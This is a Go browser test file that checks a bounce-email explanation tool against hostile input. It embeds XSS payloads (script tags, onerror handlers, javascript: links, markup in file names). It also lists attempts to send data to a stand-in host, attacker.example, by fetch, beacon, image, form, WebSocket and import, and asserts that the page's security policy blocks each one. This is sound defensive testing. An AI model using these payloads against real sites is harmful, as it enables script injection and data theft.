package browser

import (
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"
)

const hostileReport = `From: MAILER-DAEMON@mail.example.org
To: anna@example.org
Subject: <img src=x onerror="window.attacked=1"> <script>window.attacked=2</script>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><body onload="window.attacked=3"><script>window.attacked=4</script><script src="https://attacker.example/x.js"></script>
<img src="https://attacker.example/pixel.png" onerror="window.attacked=5"><iframe src="javascript:parent.attacked=6"></iframe>
<a href="javascript:window.attacked=7">Details</a><svg onload="window.attacked=8"></svg><style>@import "https://attacker.example/x.css";</style>
<form action="https://attacker.example/"><input name="q"></form><base href="https://attacker.example/">
&lt;bob@example.com&gt;: host mx.example.com[192.0.2.25] said: 550 5.1.1 <b>&lt;script&gt;window.attacked=9&lt;/script&gt;</b> "><img src=x onerror=window.attacked=10> User unknown
</body></html>
`

// TestHostileText pastes, drops and links a bounce full of markup: nothing of it may become an element, run or be fetched.
func TestHostileText(t *testing.T) {
	lines := "550 5.1.1 <script>window.attacked=1</script><img src=x onerror=window.attacked=2> <a href='javascript:window.attacked=3'>x</a> <bob@example.com>"
	for _, c := range []struct {
		name string
		give func(p *testPage)
	}{
		{"report", func(p *testPage) { p.paste(hostileReport) }},
		{"line", func(p *testPage) { p.paste(lines) }},
		{"file name", func(p *testPage) {
			p.drop(file("<img src=x onerror=window.attacked=1>.eml", []byte(hostileReport)), file("<script>.txt", []byte(lines)))
		}},
		{"link", func(p *testPage) {
			p.run(fmt.Sprintf("location.hash = 'text=' + encodeURIComponent(%q)", lines))
			p.answered()
		}},
		{"page address", func(p *testPage) {
			p.paste(strings.ReplaceAll(bounce("x", "550 5.1.1 User unknown"), "<x>", "<javascript:alert(1)//@example.com>"))
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			start := traffic.mark()
			p := tool(t, "en")
			c.give(p)
			foreign := eval[[]string](p, `[...document.querySelectorAll("#read *, #answers *")].filter(element =>
				!"SECTION DIV P H2 H3 H4 OL UL LI DL DT DD I SPAN STRONG CODE MARK DETAILS SUMMARY A BUTTON".split(" ").includes(element.tagName) ||
				[...element.attributes].some(attribute => attribute.name.startsWith("on")) ||
				element.href && !element.href.startsWith(location.origin + "/")).map(element => element.outerHTML)`)
			if len(foreign) > 0 {
				t.Errorf("elements that are not ours: %q", foreign)
			}
			if attacked := eval[bool](p, "'attacked' in window"); attacked {
				t.Error("a script of the bounce ran")
			}
			for _, request := range traffic.foreign(start) {
				t.Errorf("a request left: %s", request)
			}
		})
	}
}

// TestNothingLeaves records every request of page and worker from the opening of the page on. Only our own files
// may be asked for, and nothing of the text may stand in an address.
func TestNothingLeaves(t *testing.T) {
	start := traffic.mark()
	p := tool(t, "en")
	p.paste(gmailReport)
	p.paste(personalReport)
	p.drop(file("bounce.eml", []byte(exchangeReport)))
	p.run("new Promise(next => setTimeout(next, 300))")
	for _, request := range traffic.foreign(start) {
		t.Errorf("a request left: %s", request)
	}
	own := traffic.own(start)
	p.contains("the requests", strings.Join(own, "\n"), "GET /en/", "tool.js", "worker.js", "explain.wasm", "strings.en.json")
	allowed := regexp.MustCompile(`^GET (/en/|/assets/[0-9a-f]{12}/[a-z.]+|/favicon\.(ico|svg))$`)
	for _, request := range own {
		if !allowed.MatchString(request) {
			t.Errorf("a request of another kind: %s", request)
		}
	}
}

// TestPolicyBlocks tries to send something away, from the page and from inside the worker.
func TestPolicyBlocks(t *testing.T) {
	const address = "http://attacker.example/"
	start := traffic.mark()
	p := tool(t, "en")
	p.paste("550 5.1.1")
	for name, script := range map[string]string{
		"fetch":       `fetch(ADDRESS, { mode: "no-cors" }).then(() => "sent", () => "blocked")`,
		"beacon":      `new Promise(done => { addEventListener("securitypolicyviolation", () => done("blocked"), { once: true }); navigator.sendBeacon(ADDRESS, "x"); setTimeout(done, 1000, "sent"); })`,
		"image":       `new Promise(done => { const image = new Image(); image.onload = () => done("sent"); image.onerror = () => done("blocked"); image.src = ADDRESS; })`,
		"script":      `new Promise(done => { const script = document.createElement("script"); script.onload = () => done("sent"); script.onerror = () => done("blocked"); script.src = ADDRESS; document.head.append(script); })`,
		"inline":      `(() => { const script = document.createElement("script"); script.textContent = "window.inline = 1"; document.head.append(script); return window.inline ? "ran" : "blocked"; })()`,
		"eval":        `new Promise(done => { addEventListener("securitypolicyviolation", () => done("blocked"), { once: true }); setTimeout("window.late = 1"); setTimeout(done, 500, "ran"); })`,
		"wasm":        `WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => "ran", () => "blocked")`,
		"form":        `new Promise(done => { addEventListener("securitypolicyviolation", () => done("blocked"), { once: true }); const form = document.createElement("form"); form.action = ADDRESS; document.body.append(form); form.submit(); setTimeout(done, 1000, "sent"); })`,
		"data worker": `new Promise(done => { try { const worker = new Worker("data:text/javascript,postMessage(1)"); worker.onmessage = () => done("ran"); worker.onerror = () => done("blocked"); } catch { done("blocked"); } })`,
	} {
		t.Run("page "+name, func(t *testing.T) {
			p := p.in(t)
			if got := eval[string](p, strings.ReplaceAll(script, "ADDRESS", fmt.Sprintf("%q", address))); got != "blocked" {
				t.Error(got)
			}
		})
	}

	// The worker runs our own script under its own policy; the attempts are made there by the DevTools protocol.
	for name, script := range map[string]string{
		"fetch":     `fetch(ADDRESS, { mode: "no-cors" }).then(() => "sent", () => "blocked")`,
		"import":    `import(ADDRESS).then(() => "ran", () => "blocked")`,
		"websocket": `new Promise(done => { try { const socket = new WebSocket(ADDRESS.replace("http", "ws")); socket.onopen = () => done("sent"); socket.onerror = () => done("blocked"); } catch { done("blocked"); } })`,
		"eval":      `(() => { try { return new Function("return 'ran'")(); } catch { return "blocked"; } })()`,
	} {
		t.Run("worker "+name, func(t *testing.T) {
			p := p.in(t)
			if got := inWorker[string](p, strings.ReplaceAll(script, "ADDRESS", fmt.Sprintf("%q", address))); got != "blocked" {
				t.Error(got)
			}
		})
	}
	for _, request := range traffic.foreign(start) {
		t.Errorf("a request left: %s", request)
	}
}

// inWorker runs JavaScript in the page's worker.
func inWorker[T any](p *testPage, script string) T {
	p.Helper()
	targets, err := chromedp.CallBrowser(p.ctx, target.GetTargets, target.GetTargetsParams{})
	if err != nil {
		p.Fatal(err)
	}
	own := chromedp.FromContext(p.ctx).BrowserContextID
	for _, found := range targets.TargetInfos {
		if found.Type == "worker" && strings.HasSuffix(found.URL, "/worker.js") && found.BrowserContextID == own {
			ctx, leave := chromedp.NewContext(p.ctx, chromedp.WithTargetID(found.TargetID))
			defer leave()
			return eval[T](&testPage{p.TB, ctx, leave}, script)
		}
	}
	p.Fatalf("no worker among the targets %+v", targets.TargetInfos)
	panic("not reached")
}

// TestHeaders looks at the policy of the responses themselves: only the worker's own may compile the module.
func TestHeaders(t *testing.T) {
	p := open(t, "/en/")
	for path, want := range map[string]bool{
		`location.pathname`:                                                    false,
		`document.documentElement.dataset.worker`:                              true,
		`document.documentElement.dataset.module`:                              false,
		`document.documentElement.dataset.strings`:                             false,
		`document.querySelector("script[src]").src`:                            false,
		`document.querySelector("link[rel=stylesheet]").href`:                  false,
		`"/no/such/page/"`:                                                     false,
		`document.documentElement.dataset.worker.replace("worker", "explain")`: false,
	} {
		policy := eval[string](p, `fetch(`+path+`).then(response => response.headers.get("content-security-policy") ?? "none")`)
		if !strings.Contains(policy, "default-src 'none'") || strings.Contains(policy, "unsafe-inline") || strings.Contains(policy, "'unsafe-eval'") {
			t.Errorf("%s has the policy %q", path, policy)
		}
		if got := strings.Contains(policy, "wasm-unsafe-eval"); got != want {
			t.Errorf("%s may compile wasm: %v, want %v", path, got, want)
		}
	}
}
